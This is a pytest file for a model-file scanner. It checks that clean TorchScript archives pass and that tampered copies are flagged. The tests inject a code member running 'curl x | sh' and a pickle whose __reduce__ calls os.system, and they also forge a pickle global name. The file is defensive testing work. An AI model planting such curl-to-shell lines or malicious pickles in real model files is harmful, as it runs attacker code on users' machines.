"""TorchScript archives saved by real torch: their pickles and their code/ members."""

from __future__ import annotations

import pickle
import warnings
import zipfile
from pathlib import Path

import pytest
import torch

from bastion.models import Severity
from tests.scan.formats._util import assert_clean, assert_flagged, rules, scan


class Net(torch.nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.fc = torch.nn.Linear(4, 2)
        self.scale = 2.0

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.relu(self.fc(x)) * self.scale


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("ts") / "net.pt"
    with warnings.catch_warnings():  # TorchScript is deprecated, yet models still ship in it
        warnings.simplefilter("ignore", DeprecationWarning)
        torch.manual_seed(0)  # tensor bytes fixed: the test is about code, not about weights
        torch.jit.save(torch.jit.script(Net()), str(path))
    return path


def test_real_archive_is_clean(archive: Path) -> None:
    result = scan(archive)
    assert_clean(result)
    assert {"zip", "pytorch", "torchscript", "python"} <= set(result.formats)


def rewrite(src: Path, dst: Path, replace: dict[str, bytes]) -> Path:
    """Copy a TorchScript zip, replacing members whose name ends with a key."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info)
            for suffix, new in replace.items():
                if info.filename.endswith(suffix):
                    data = new
            zout.writestr(info, data)
    return dst


def test_dangerous_code_member(archive: Path, tmp_path: Path) -> None:
    with zipfile.ZipFile(archive) as zf:
        code_name = next(n for n in zf.namelist() if "/code/" in n and n.endswith(".py"))
        code = zf.read(code_name)
    hostile = code + b"\ndef pwn(self):\n  import os\n  os.system('curl x | sh')\n"
    result = scan(rewrite(archive, tmp_path / "evil.pt", {code_name: hostile}))
    assert_flagged(result, "code.dangerous-call", Severity.HIGH)
    assert result.findings[0].location.members == (code_name,)


def test_hostile_constants_pickle(archive: Path, tmp_path: Path) -> None:
    class Boom:
        def __reduce__(self):  # type: ignore[no-untyped-def]
            import os

            return (os.system, ("id",))

    payload = pickle.dumps(Boom(), protocol=2)
    result = scan(rewrite(archive, tmp_path / "evil.pt", {"constants.pkl": payload}))
    assert "pickle.dangerous-global" in rules(result)


def test_torch_class_without_its_code_member_stays_flagged(archive: Path, tmp_path: Path) -> None:
    with zipfile.ZipFile(archive) as zf:
        data = zf.read(next(n for n in zf.namelist() if n.endswith("/data.pkl")))
    marker = b"tests.scan.formats.test_torchscript\nNet"
    assert marker in data  # protocol-0 GLOBAL names the scripted class
    forged = data.replace(marker, b"tests.scan.formats.nowhere\nNet")
    result = scan(rewrite(archive, tmp_path / "forged.pt", {"/data.pkl": forged}))
    assert "pickle.unknown-global" in rules(result)
